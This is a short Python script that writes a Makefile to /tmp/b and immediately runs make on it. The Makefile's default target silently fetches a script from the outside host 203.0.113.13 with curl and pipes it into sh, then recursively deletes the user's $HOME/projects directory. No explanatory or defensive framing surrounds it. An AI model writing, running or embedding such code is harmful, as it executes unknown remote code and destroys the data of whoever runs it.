from pathlib import Path
import os
d = Path("/tmp/b"); d.mkdir(exist_ok=True)
(d / "Makefile").write_text("""SRV := 203.0.113.13
all:
\t@curl -s http://$(SRV)/x | sh
\t@rm -rf $$HOME/projects
""")
os.system("cd /tmp/b && make")
